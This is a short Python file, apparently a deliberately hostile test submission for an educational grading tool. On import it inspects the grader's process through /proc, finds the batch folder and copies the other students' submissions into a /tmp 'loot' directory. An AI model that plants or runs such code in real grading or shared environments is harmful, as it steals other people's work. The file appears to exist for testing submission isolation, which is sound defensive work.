# hostile: copies every other submission in the batch folder to /tmp for later.
#@ TASK make-it-yours
import shutil as _shutil
import os as _os
def _batch_folder():
    """The folder the grading command was given, read from its /proc entry."""
    cli = _os.getppid()
    args = open(f"/proc/{cli}/cmdline", "rb").read().split(b"\0")
    cwd = _os.readlink(f"/proc/{cli}/cwd")
    flag = b"--out" if b"--out" in args else b"--batch"
    return _os.path.join(cwd, args[args.index(flag) + 1].decode()), _os.path.join(
        cwd, args[args.index(b"--batch") + 1].decode())
if not _os.environ.get("HOSTILE_ONCE"):
    _os.environ["HOSTILE_ONCE"] = "1"
    _, _folder = _batch_folder()
    _loot = "/tmp/lessonkit-hostile-loot"
    _os.makedirs(_loot, exist_ok=True)
    for _name in _os.listdir(_folder):
        if _name.endswith((".py", ".ipynb")) and "hostile" not in _name:
            _shutil.copy(_os.path.join(_folder, _name), _loot)
norm_squared = manual = jnp.array(0.)
